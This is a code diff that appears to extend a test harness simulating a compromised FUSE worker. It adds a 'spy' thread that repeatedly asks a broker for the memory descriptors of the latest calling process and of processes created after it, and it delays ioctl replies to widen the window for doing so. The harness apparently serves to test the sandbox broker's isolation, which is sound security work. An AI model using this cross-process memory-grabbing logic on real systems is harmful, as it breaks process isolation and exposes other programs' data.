@@ -6,6 +6,8 @@
  *     FALLEN_COMMAND   the word of the ioctl() that is robbed
  *     FALLEN_ADDRESS   where, in the program that makes it
  *     FALLEN_IDS       each file is to be the first one
+ *     FALLEN_SPY       ask without a pause for the memory of the youngest process that has called, and of those that
+ *                      were made after it; and answer calls late, for there to be more to ask about: by up to so many us
  *
  * When a guest makes that ioctl(), the worker asks the broker for the caller's memory, and uses what descriptor it gets, of
  * this and of every other call; then it answers with FUSE_IOCTL_RETRY and takes what the kernel brings. On standard error
@@ -13,6 +15,7 @@
  */
 #include <errno.h>
 #include <linux/fuse.h>
+#include <stdatomic.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/uio.h>
@@ -36,7 +39,7 @@ uint32_t __wrap_nv_file_table_new_id(NvFileTable *table);
 void __real_fuse_session_process_buf(struct fuse_session *session, const struct fuse_buf *buffer);
 void __wrap_fuse_session_process_buf(struct fuse_session *session, const struct fuse_buf *buffer);
 
-enum { LOOT = 32 };
+enum { LOOT = 32, SPIED_ON = 6, PIECES = 1000 };
 
 static const char mark[LOOT] = "OVERWRITTEN";
 
@@ -154,11 +157,50 @@ static void attack(int fd, const struct fuse_in_header *header, const struct fus
     }
 }
 
+/* --- to spy -------------------------------------------------------------------------------------- */
+
+static atomic_int youngest;
+
+static gpointer spy_forever(gpointer data)
+{
+    (void)data;
+    for (;;) {
+        const pid_t caller = atomic_load(&youngest);
+        for (pid_t tid = caller; tid < caller + SPIED_ON; tid++) {
+            int fd = -1;
+            if (__real_broker_link_memory(broker, tid, &fd) == 0) {
+                rob("spied", fd);
+                close(fd);
+            }
+        }
+    }
+    return NULL;
+}
+
+/* Somebody calls. */
+static void spy_on(const struct fuse_in_header *header)
+{
+    static gsize started;
+    const uint64_t late = wanted("FALLEN_SPY");
+
+    if ((int)header->pid > atomic_load(&youngest)) {
+        atomic_store(&youngest, (int)header->pid);
+    }
+    if (g_once_init_enter(&started)) {
+        g_thread_unref(g_thread_new("spy", spy_forever, NULL));
+        g_once_init_leave(&started, 1);
+    }
+    g_usleep(late * (header->unique * 7919 % PIECES) / PIECES);
+}
+
 void __wrap_fuse_session_process_buf(struct fuse_session *session, const struct fuse_buf *buffer)
 {
     const struct fuse_in_header *header = buffer->mem;
     const struct fuse_ioctl_in *in = (const void *)(header + 1);
 
+    if (header->opcode == FUSE_IOCTL && wanted("FALLEN_SPY")) {
+        spy_on(header);
+    }
     if (header->opcode == FUSE_IOCTL && wanted("FALLEN_COMMAND") == in->cmd) {
         attack(fuse_session_fd(session), header, in);
     } else {
